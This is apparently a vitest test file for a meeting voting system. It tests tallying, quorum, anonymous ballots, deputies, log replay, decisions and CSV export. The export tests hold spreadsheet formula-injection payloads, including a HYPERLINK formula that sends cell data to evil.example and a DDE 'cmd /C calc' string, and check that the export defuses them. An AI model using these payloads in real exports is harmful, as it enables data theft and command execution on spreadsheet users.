import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  BALLOT_CHOICES,
  majorityMet,
  meetingDefinitionSchema,
  pollResult,
  quorumRequired,
  tallyOf,
  type BallotChoice,
  type CommandInput,
  type Poll,
  type Principal,
} from '../index.js';
import {
  execute,
  initialSecret,
  initialState,
  replaySecret,
  resultsCsv,
  resultsExport,
  systemPrincipal,
  type MeetingWorld,
  type ReplayableCommand,
} from '../server.js';
import { formulaCells, readAsSpreadsheet } from '../testing/spreadsheet.js';

const DELEGATIONS = ['uz', 'kz', 'az', 'de', 'fr', 'it'];
const def = meetingDefinitionSchema.parse({
  title: { en: 'Meeting', ru: 'Совещание' },
  startsAt: '2021-06-08T10:00:00+02:00',
  timeZone: 'Europe/Brussels',
  chair: { name: { en: 'Chair', ru: 'Председатель' } },
  delegations: DELEGATIONS.map((id) => ({ id, name: { en: id, ru: id } })),
  agenda: [
    { id: 'uz-lab', title: { en: 'Lab', ru: 'Лаборатория' }, plannedMinutes: 15 },
    { id: 'aob', title: { en: 'AOB', ru: 'Разное' }, plannedMinutes: 10 },
  ],
  proposals: [
    {
      id: 'uz-lab-proposal',
      agendaItemId: 'uz-lab',
      title: { en: 'Regional Customs Laboratory', ru: 'Региональная таможенная лаборатория' },
      text: { en: 'Establish it.', ru: 'Создать её.' },
      sponsorDelegationId: 'uz',
    },
  ],
});

const chair: Principal = {
  meetingId: 'm1',
  inviteId: 'inv-chair',
  role: 'chair',
  delegationId: null,
  presenterId: null,
};
const secretariat: Principal = { ...chair, inviteId: 'inv-sec', role: 'secretariat' };
const head = (d: string): Principal => ({
  meetingId: 'm1',
  inviteId: `inv-${d}`,
  role: 'delegate',
  delegationId: d,
  presenterId: null,
  seat: 'head',
});
const deputy = (d: string): Principal => ({ ...head(d), inviteId: `inv-${d}-deputy`, seat: 'deputy' });

let ids = 0;
let cmdIds = 0;
/** Every accepted command, as the store would log it: the input of replaySecret. */
let log: ReplayableCommand[] = [];

type Ctx = { now?: number; present?: readonly string[] };

function run(world: MeetingWorld, cmd: CommandInput, who: Principal, ctx: Ctx = {}) {
  const command = { id: `command-${++cmdIds}`, ...cmd };
  const now = ctx.now ?? 1000;
  const out = execute(world, who, command, {
    now,
    newId: () => `n${++ids}`,
    presentDelegations: () => ctx.present ?? [],
  });
  if (out.ok) log.push({ commandId: command.id, type: command.type, payload: command, at: now, principal: who });
  return out;
}

function must(world: MeetingWorld, cmd: CommandInput, who: Principal = chair, ctx: Ctx = {}): MeetingWorld {
  const out = run(world, cmd, who, ctx);
  if (!out.ok) throw new Error(`${cmd.type} refused: ${out.error.code} ${out.error.message}`);
  return out.world;
}

function created(
  world: MeetingWorld,
  cmd: CommandInput,
  who: Principal = chair,
  ctx: Ctx = {},
): { world: MeetingWorld; id: string } {
  const out = run(world, cmd, who, ctx);
  if (!out.ok || out.createdId === undefined)
    throw new Error(`${cmd.type} created nothing: ${out.ok ? '' : out.error.message}`);
  return { world: out.world, id: out.createdId };
}

function openMeeting(): MeetingWorld {
  log = [];
  return must({ state: initialState('m1', def), secret: initialSecret() }, { type: 'meeting.open' });
}

type PollOptions = Partial<Extract<CommandInput, { type: 'poll.open' }>>;

function withPoll(opts: PollOptions = {}, ctx: Ctx = {}): { world: MeetingWorld; pollId: string } {
  const { world, id } = created(
    openMeeting(),
    {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'vote',
      secrecy: 'anonymous',
      majority: 'simple',
      quorum: 0.5,
      ...opts,
    },
    chair,
    ctx,
  );
  return { world, pollId: id };
}

function pollOf(world: MeetingWorld, id: string): Poll {
  const poll = world.state.votes.polls[id];
  if (!poll) throw new Error(`no poll ${id}`);
  return poll;
}

const tally = (support: number, object: number, abstain = 0) => ({ support, object, abstain });

describe('counting rules', () => {
  it('tallies each choice', () => {
    expect(
      tallyOf([{ choice: 'support' }, { choice: 'object' }, { choice: 'support' }, { choice: 'abstain' }]),
    ).toEqual(tally(2, 1, 1));
    expect(tallyOf([])).toEqual(tally(0, 0, 0));
  });

  it('rounds the quorum up, without float noise', () => {
    expect(quorumRequired(53, 0.5)).toBe(27);
    expect(quorumRequired(52, 0.5)).toBe(26);
    expect(quorumRequired(10, 0.7)).toBe(7); // 0.7 × 10 is 7.000000000000001 in floating point
    expect(quorumRequired(3, 2 / 3)).toBe(2);
    expect(quorumRequired(53, 0)).toBe(0);
    expect(quorumRequired(53, 1)).toBe(53);
  });

  it('simple majority: more support than objections; ties and 0–0 fail; abstentions do not count', () => {
    expect(majorityMet('simple', tally(2, 1))).toBe(true);
    expect(majorityMet('simple', tally(1, 1))).toBe(false);
    expect(majorityMet('simple', tally(0, 0, 5))).toBe(false);
    expect(majorityMet('simple', tally(1, 0, 40))).toBe(true);
    expect(majorityMet('simple', tally(20, 21, 0))).toBe(false);
  });

  it('two thirds of the votes cast: exactly two thirds passes, just under fails, none cast fails', () => {
    expect(majorityMet('two_thirds', tally(2, 1))).toBe(true);
    expect(majorityMet('two_thirds', tally(20, 10))).toBe(true);
    expect(majorityMet('two_thirds', tally(19, 10))).toBe(false);
    expect(majorityMet('two_thirds', tally(3, 2))).toBe(false);
    expect(majorityMet('two_thirds', tally(1, 0, 50))).toBe(true);
    expect(majorityMet('two_thirds', tally(0, 0, 3))).toBe(false);
  });

  it('consensus: any objection fails; silence and abstentions pass', () => {
    expect(majorityMet('consensus', tally(52, 1))).toBe(false);
    expect(majorityMet('consensus', tally(0, 0, 0))).toBe(true);
    expect(majorityMet('consensus', tally(3, 0, 10))).toBe(true);
  });

  it('counts as present the delegations connected at close and those that voted', () => {
    const { world, pollId } = withPoll({ quorum: 0.5 });
    const poll = pollOf(world, pollId);
    const ballots = { uz: { choice: 'support' as const, at: 1, inviteId: 'x', commandId: 'c1' } };
    // 6 entitled → 3 required. uz voted and left; kz, az connected; a stranger is ignored.
    const r = pollResult(poll, ballots, ['kz', 'az', 'nobody'], 5000);
    expect(r).toMatchObject({
      entitled: 6,
      present: 3,
      presentDelegations: ['uz', 'kz', 'az'],
      voted: 1,
      quorumRequired: 3,
      quorumMet: true,
      outcome: 'passed',
    });
    expect(pollResult(poll, ballots, ['kz'], 5000)).toMatchObject({
      present: 2,
      quorumMet: false,
      outcome: 'no_quorum',
    });
  });
});

describe('a poll on a proposal', () => {
  it('counts one ballot per delegation, the last one standing, and publishes only counts while anonymous', () => {
    const { world: start, pollId } = withPoll({ secrecy: 'anonymous' });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'), { now: 2000 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 2100 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, head('az'), { now: 2200 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('kz'), { now: 2300 }); // kz changes its mind
    const open = pollOf(world, pollId);
    expect(open).toMatchObject({ status: 'open', votedCount: 3, tally: null, rollCall: {}, result: null });
    expect(world.secret.ballots[pollId]?.kz).toEqual({
      choice: 'support',
      at: 2300,
      inviteId: 'inv-kz',
      commandId: expect.any(String),
    });
    // Nothing of any delegation's choice is in the public record.
    const publicJson = JSON.stringify(world.state.votes.polls);
    for (const choice of BALLOT_CHOICES) expect(publicJson).not.toContain(choice);

    world = must(world, { type: 'poll.close', pollId }, chair, { now: 3000, present: ['uz', 'kz', 'az'] });
    const closed = pollOf(world, pollId);
    expect(closed).toMatchObject({
      status: 'closed',
      closedAt: 3000,
      closedBy: 'chair',
      tally: tally(2, 0, 1),
      rollCall: {},
    });
    expect(closed.result).toMatchObject({
      entitled: 6,
      present: 3,
      voted: 3,
      tally: tally(2, 0, 1),
      quorumRequired: 3,
      quorumMet: true,
      majorityMet: true,
      outcome: 'passed',
    });
    expect(world.state.votes.openPollId).toBeNull();
  });

  it('publishes who voted what in a roll-call poll', () => {
    const { world: start, pollId } = withPoll({ secrecy: 'roll_call' });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'), { now: 2000 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 2001 });
    expect(pollOf(world, pollId)).toMatchObject({
      votedCount: 2,
      tally: tally(1, 1),
      rollCall: { uz: { choice: 'support', at: 2000 }, kz: { choice: 'object', at: 2001 } },
    });
    world = must(world, { type: 'poll.close', pollId }, chair, { present: DELEGATIONS });
    // 1–1 is a tie: a simple majority fails.
    expect(pollOf(world, pollId).result).toMatchObject({ quorumMet: true, majorityMet: false, outcome: 'failed' });
  });

  it('reports no quorum when too few delegations are present', () => {
    const { world: start, pollId } = withPoll({ quorum: 0.5 });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'));
    world = must(world, { type: 'poll.close', pollId }, chair, { present: ['kz'] });
    expect(pollOf(world, pollId).result).toMatchObject({
      present: 2,
      quorumRequired: 3,
      quorumMet: false,
      majorityMet: true,
      outcome: 'no_quorum',
    });
  });

  it('refuses ballots on a closed or unknown poll, changing nothing', () => {
    const { world: start, pollId } = withPoll();
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'));
    world = must(world, { type: 'poll.close', pollId }, chair);
    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'))).toMatchObject({
      ok: false,
      error: { code: 'conflict', reason: 'poll_closed' },
    });
    expect(run(world, { type: 'poll.vote', pollId: 'nope', choice: 'object' }, head('uz'))).toMatchObject({
      ok: false,
      error: { code: 'conflict', reason: 'poll_not_found' },
    });
    expect(world.secret.ballots[pollId]?.uz?.choice).toBe('support');
    expect(run(world, { type: 'poll.close', pollId }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'poll_closed' },
    });
  });

  it('refuses ballots from anyone but the designated voter of a delegation on the roster', () => {
    const { world, pollId } = withPoll();
    const stranger: Principal = { ...head('xx'), delegationId: 'xx' };
    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, deputy('uz'))).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, stranger)).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, chair)).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, { ...secretariat })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
  });

  it('lets the head hand the right to the deputy and take it back; the deputy cannot take it', () => {
    const { world: start, pollId } = withPoll();
    let world = start;
    expect(world.state.votes.voterSeats.uz).toBe('head');
    expect(run(world, { type: 'voter.designate', seat: 'deputy' }, deputy('uz'))).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'));
    world = must(world, { type: 'voter.designate', seat: 'deputy' }, head('uz'));
    expect(world.state.votes.voterSeats.uz).toBe('deputy');
    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'))).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    // The deputy changes the delegation's one ballot; it does not add a second.
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, deputy('uz'));
    expect(pollOf(world, pollId).votedCount).toBe(1);
    expect(world.secret.ballots[pollId]?.uz).toMatchObject({ choice: 'support', inviteId: 'inv-uz-deputy' });
    world = must(world, { type: 'voter.designate', seat: 'head' }, head('uz'));
    expect(run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('uz'))).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    // A token without a seat (issued before seats existed) is the head's.
    const { seat: _seat, ...legacy } = head('uz');
    expect(run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, legacy).ok).toBe(true);
  });

  it('keeps one poll open at a time, and only when the meeting is open', () => {
    const { world } = withPoll();
    const again = {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'vote',
      secrecy: 'anonymous',
      quorum: 0,
    } as const;
    expect(run(world, again, chair)).toMatchObject({ ok: false, error: { reason: 'poll_already_open' } });
    const scheduled = { state: initialState('m1', def), secret: initialSecret() };
    expect(run(scheduled, again, chair)).toMatchObject({ ok: false, error: { reason: 'meeting_not_open' } });
    expect(run(openMeeting(), { ...again, proposalId: 'nope' }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'proposal_not_found' },
    });
    expect(run(openMeeting(), again, secretariat)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(run(openMeeting(), again, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
  });

  it('never mutates the input world', () => {
    const { world, pollId } = withPoll();
    const frozen = JSON.stringify(world);
    must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'));
    must(world, { type: 'poll.close', pollId }, chair);
    expect(JSON.stringify(world)).toBe(frozen);
  });
});

describe('the no-objection procedure', () => {
  const noObjection = {
    method: 'no_objection',
    secrecy: 'roll_call',
    majority: 'consensus',
    durationSeconds: 60,
    quorum: 0,
  } as const;

  it('needs a countdown and is always consensus', () => {
    const w = openMeeting();
    const base = {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'no_objection',
      secrecy: 'anonymous',
      quorum: 0,
    } as const;
    expect(run(w, base, chair)).toMatchObject({ ok: false, error: { code: 'invalid' } });
    expect(run(w, { ...base, durationSeconds: 60, majority: 'simple' }, chair)).toMatchObject({
      ok: false,
      error: { code: 'invalid' },
    });
    const { world, pollId } = withPoll({ ...noObjection, majority: undefined }, { now: 10_000 });
    expect(pollOf(world, pollId)).toMatchObject({ majority: 'consensus', openedAt: 10_000, closesAt: 70_000 });
  });

  it('takes objections until just before the deadline and refuses them from the deadline on', () => {
    const { world, pollId } = withPoll(noObjection, { now: 10_000 });
    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 69_999 }).ok).toBe(true);
    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 70_000 })).toMatchObject({
      ok: false,
      error: { reason: 'poll_closed' },
    });
    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 90_000 })).toMatchObject({
      ok: false,
      error: { reason: 'poll_closed' },
    });
  });

  it('passes at the deadline when nobody objects, closed by the server itself', () => {
    const { world, pollId } = withPoll(noObjection, { now: 10_000 });
    const closed = must(world, { type: 'poll.close', pollId }, systemPrincipal('m1'), { now: 70_000 });
    expect(pollOf(closed, pollId)).toMatchObject({ status: 'closed', closedBy: 'deadline', closedAt: 70_000 });
    expect(pollOf(closed, pollId).result).toMatchObject({
      voted: 0,
      tally: tally(0, 0),
      majorityMet: true,
      outcome: 'passed',
    });
  });

  it('fails when a single delegation objects', () => {
    const { world: start, pollId } = withPoll(noObjection, { now: 10_000 });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('de'), { now: 20_000 });
    world = must(world, { type: 'poll.close', pollId }, systemPrincipal('m1'), { now: 70_000 });
    expect(pollOf(world, pollId).result).toMatchObject({ tally: tally(0, 1), outcome: 'failed' });
  });

  it('passes when the only objection is withdrawn before the deadline', () => {
    const { world: start, pollId } = withPoll(noObjection, { now: 10_000 });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('de'), { now: 20_000 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('de'), { now: 30_000 });
    world = must(world, { type: 'poll.close', pollId }, systemPrincipal('m1'), { now: 70_000 });
    expect(pollOf(world, pollId).result?.outcome).toBe('passed');
  });
});

describe('replaying the log rebuilds the secret ballots', () => {
  it('gives exactly the live secret, ignoring refused and unrelated commands', () => {
    const { world: start, pollId } = withPoll();
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'), { now: 2000 });
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 2001 });
    run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('kz')); // refused: not logged
    world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, head('kz'), { now: 2002 });
    world = must(world, { type: 'poll.close', pollId }, chair);
    const { world: w2, id: second } = created(world, {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'vote',
      secrecy: 'roll_call',
      quorum: 0,
    });
    must(w2, { type: 'poll.vote', pollId: second, choice: 'object' }, head('az'), { now: 3000 });
    const replayed = replaySecret([
      ...log,
      { commandId: 'junk-1', type: 'poll.vote', payload: { nonsense: true }, at: 1, principal: head('it') },
    ]);
    expect(replayed.ballots[pollId]).toEqual(world.secret.ballots[pollId]);
    expect(replayed.ballots[second]).toEqual({
      az: { choice: 'object', at: 3000, inviteId: 'inv-az', commandId: expect.any(String) },
    });
    expect(replayed.ballots[pollId]?.kz?.choice).toBe('abstain');
    expect(replayed.ballots[pollId]?.it).toBeUndefined();
  });

  it('for any sequence of ballots, the tally is the last choice of each delegation, live and replayed', () => {
    const ballot = fc.record({
      d: fc.constantFrom(...DELEGATIONS),
      choice: fc.constantFrom<BallotChoice>(...BALLOT_CHOICES),
    });
    fc.assert(
      fc.property(fc.array(ballot, { maxLength: 40 }), (ballots) => {
        const { world: start, pollId } = withPoll({ secrecy: 'anonymous', quorum: 0 });
        let world = start;
        const last = new Map<string, BallotChoice>();
        for (const [i, b] of ballots.entries()) {
          world = must(world, { type: 'poll.vote', pollId, choice: b.choice }, head(b.d), { now: 2000 + i });
          last.set(b.d, b.choice);
        }
        const replayed = replaySecret(log);
        world = must(world, { type: 'poll.close', pollId }, chair, { now: 9000 });
        const expected = tallyOf([...last.values()].map((choice) => ({ choice })));
        expect(pollOf(world, pollId).result?.tally).toEqual(expected);
        expect(pollOf(world, pollId).result?.voted).toBe(last.size);
        expect(replayed.ballots[pollId] ?? {}).toEqual(world.secret.ballots[pollId]);
      }),
      { numRuns: 60 },
    );
  });
});

describe('proposals', () => {
  it('come from the meeting definition, and cross-references are checked', () => {
    const s = initialState('m1', def);
    expect(s.votes.proposalOrder).toEqual(['uz-lab-proposal']);
    expect(s.votes.proposals['uz-lab-proposal']).toMatchObject({ sponsorDelegationId: 'uz', documents: [] });
    const bad = meetingDefinitionSchema.safeParse({
      ...def,
      proposals: [
        { id: 'p', agendaItemId: 'nope', title: def.title, text: def.title, sponsorDelegationId: 'xx' },
        { id: 'p', agendaItemId: 'aob', title: def.title, text: def.title },
      ],
    });
    expect(bad.success).toBe(false);
    const messages = bad.success ? [] : bad.error.issues.map((i) => i.message);
    expect(messages).toEqual(
      expect.arrayContaining([
        expect.stringContaining('unknown agenda item "nope"'),
        expect.stringContaining('unknown sponsor "xx"'),
        expect.stringContaining('duplicate proposal id "p"'),
      ]),
    );
  });

  it('are added and edited live by the chair or secretariat, but not while under vote', () => {
    let w = openMeeting();
    const add = {
      type: 'proposal.add',
      agendaItemId: 'aob',
      title: { en: 'New', ru: 'Новое' },
      text: { en: 'Text', ru: 'Текст' },
    } as const;
    expect(run(w, add, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(run(w, { ...add, agendaItemId: 'nope' }, secretariat)).toMatchObject({
      ok: false,
      error: { reason: 'item_not_found' },
    });
    expect(run(w, { ...add, sponsorDelegationId: 'xx' }, secretariat)).toMatchObject({
      ok: false,
      error: { code: 'invalid' },
    });
    const { world, id } = created(
      w,
      { ...add, documents: [{ title: { en: 'Doc', ru: 'Док' }, url: 'https://example.org/doc.pdf' }] },
      secretariat,
    );
    w = world;
    expect(w.state.votes.proposalOrder).toEqual(['uz-lab-proposal', id]);
    w = must(w, { type: 'proposal.edit', proposalId: id, title: { en: 'Renamed', ru: 'Переименовано' } }, chair);
    expect(w.state.votes.proposals[id]).toMatchObject({
      title: { en: 'Renamed' },
      text: { en: 'Text' },
      documents: [{ url: 'https://example.org/doc.pdf' }],
    });
    const { world: voting } = created(w, {
      type: 'poll.open',
      proposalId: id,
      method: 'vote',
      secrecy: 'anonymous',
      quorum: 0,
    });
    expect(
      run(voting, { type: 'proposal.edit', proposalId: id, text: { en: 'Changed', ru: 'Изменено' } }, chair),
    ).toMatchObject({ ok: false, error: { reason: 'proposal_in_vote' } });
    expect(
      run(
        voting,
        { type: 'proposal.edit', proposalId: 'uz-lab-proposal', text: { en: 'Changed', ru: 'Изменено' } },
        chair,
      ).ok,
    ).toBe(true);
  });
});

describe('decisions', () => {
  const wording = { en: 'The meeting supported the proposal.', ru: 'Участники совещания поддержали предложение.' };

  it('are recorded from a closed poll, linked to its proposal, and shown for read-back', () => {
    const { world: start, pollId } = withPoll();
    let world = start;
    expect(
      run(
        world,
        { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' },
        chair,
      ),
    ).toMatchObject({
      ok: false,
      error: { reason: 'poll_still_open' },
    });
    world = must(world, { type: 'poll.close', pollId }, chair);
    const { world: w, id } = created(
      world,
      { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' },
      chair,
      { now: 5000 },
    );
    expect(w.state.votes.decisions[id]).toEqual({
      id,
      agendaItemId: 'uz-lab',
      proposalId: 'uz-lab-proposal',
      pollId,
      text: wording,
      outcome: 'supported',
      recordedAt: 5000,
      updatedAt: null,
    });
    const shown = must(w, { type: 'decision.readBack', decisionId: id }, chair);
    expect(shown.state.votes.readBack).toBe(id);
    expect(must(shown, { type: 'decision.readBack', decisionId: null }, chair).state.votes.readBack).toBeNull();
    expect(run(w, { type: 'decision.readBack', decisionId: id }, secretariat)).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(run(w, { type: 'decision.readBack', decisionId: 'nope' }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'decision_not_found' },
    });
    const edited = must(w, { type: 'decision.edit', decisionId: id, outcome: 'adopted' }, secretariat, { now: 6000 });
    expect(edited.state.votes.decisions[id]).toMatchObject({ outcome: 'adopted', text: wording, updatedAt: 6000 });
  });

  it('exist without a vote, and refuse unknown references', () => {
    const w = openMeeting();
    const noted = {
      type: 'decision.record',
      agendaItemId: 'aob',
      text: { en: 'The meeting took note of the report.', ru: 'Участники приняли доклад к сведению.' },
      outcome: 'noted',
    } as const;
    const { world, id } = created(w, noted, secretariat);
    expect(world.state.votes.decisions[id]).toMatchObject({ proposalId: null, pollId: null, outcome: 'noted' });
    expect(run(w, { ...noted, agendaItemId: 'nope' }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'item_not_found' },
    });
    expect(run(w, { ...noted, pollId: 'nope' }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'poll_not_found' },
    });
    expect(run(w, { ...noted, proposalId: 'nope' }, chair)).toMatchObject({
      ok: false,
      error: { reason: 'proposal_not_found' },
    });
    expect(run(w, noted, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
  });
});

describe('the results export', () => {
  it('lists who voted in an anonymous poll but never their choices; roll-call polls list choices', () => {
    const { world: start, pollId } = withPoll({ secrecy: 'anonymous' });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'), { now: 2000 });
    world = must(world, { type: 'voter.designate', seat: 'deputy' }, head('kz'));
    world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('kz'), { now: 2001 });
    const open = resultsExport(world, 2500, (invite) => (invite.endsWith('-deputy') ? 'deputy' : 'head'));
    expect(open.polls[0]).toMatchObject({
      status: 'open',
      result: null,
      ballots: null,
      voters: [
        { delegationId: 'uz', at: 2000, castBy: 'head' },
        { delegationId: 'kz', at: 2001, castBy: 'deputy' },
      ],
    });
    for (const choice of BALLOT_CHOICES) {
      expect(JSON.stringify(open)).not.toContain(choice);
      // The header names the total columns; no data row may carry a choice.
      expect(resultsCsv(open).split('\r\n').slice(1).join('\n')).not.toContain(choice);
    }
    world = must(world, { type: 'poll.close', pollId }, chair, { now: 3000 });
    const { world: w2, id: rollCall } = created(world, {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'vote',
      secrecy: 'roll_call',
      quorum: 0,
    });
    const w3 = must(w2, { type: 'poll.vote', pollId: rollCall, choice: 'support' }, head('az'), { now: 4000 });
    const report = resultsExport(w3, 5000);
    const anonymous = report.polls[0];
    expect(anonymous?.result?.tally).toEqual(tally(0, 1, 1));
    expect(anonymous?.ballots).toBeNull();
    expect(report.polls[1]?.ballots).toEqual([
      { delegationId: 'az', delegation: { en: 'az', ru: 'az' }, choice: 'support', at: 4000, castBy: null },
    ]);
    const csv = resultsCsv(report).split('\r\n');
    expect(csv[0]).toMatch(/^record,poll_id,/);
    expect(csv.filter((l) => l.startsWith('voter,'))).toHaveLength(2);
    expect(csv.filter((l) => l.startsWith('ballot,'))).toEqual([
      expect.stringContaining(',support,1970-01-01T00:00:04.000Z,'),
    ]);
    expect(csv.find((l) => l.startsWith('poll,'))).toContain(',closed,');
  });

  it('quotes CSV cells and defuses spreadsheet formulas in people-written text', () => {
    const w = openMeeting();
    const { world } = created(w, {
      type: 'decision.record',
      agendaItemId: 'aob',
      text: { en: '=HYPERLINK("x"), "quoted"', ru: 'Строка\nвторая' },
      outcome: 'noted',
    });
    const line = resultsCsv(resultsExport(world, 0));
    expect(line).toContain(`"'=HYPERLINK(""x""), ""quoted"""`);
    expect(line).toContain('"Строка\nвторая"');
  });

  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the CSV is a formula, and every text reads back', () => {
    // [as written by people, as a spreadsheet shows it]: a formula start (= + - @, a tab) at the
    // start of a text, or after a `;`, a tab or a line break inside it, gets an apostrophe.
    const texts: Array<[string, string]> = [
      ['Noted;=1+1;…', "Noted;'=1+1;…"],
      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'],
      ["Agreed;-2+3+cmd|' /C calc'!A0", "Agreed;'-2+3+cmd|' /C calc'!A0"],
      ['Agreed; @SUM(1)\tsee\t+1', "Agreed; '@SUM(1)\tsee\t'+1"],
      ['The meeting:\n- noted the report\r\n=agreed', "The meeting:\n'- noted the report\r\n'=agreed"],
      ['Agreed;"=1+1"', 'Agreed;"\'=1+1"'],
      ['Agreed, +7 (495) 449-77-77; a, b, "c"', 'Agreed, +7 (495) 449-77-77; a, b, "c"'],
    ];
    let world = openMeeting();
    for (const [text] of texts)
      world = created(world, {
        type: 'decision.record',
        agendaItemId: 'aob',
        text: { en: text, ru: `${text} (рус.)` },
        outcome: 'noted',
      }).world;
    const csv = resultsCsv(resultsExport(world, 0));

    expect(formulaCells(csv)).toEqual([]);
    const [header, ...rows] = readAsSpreadsheet(csv, ',');
    const en = header?.indexOf('text_en') ?? -1;
    const ru = header?.indexOf('text_ru') ?? -1;
    expect(rows.every((r) => r.length === header?.length)).toBe(true);
    expect(rows.map((r) => r[en])).toEqual(texts.map(([, shown]) => shown));
    expect(rows.map((r) => r[ru])).toEqual(texts.map(([, shown]) => `${shown} (рус.)`));
  });
});
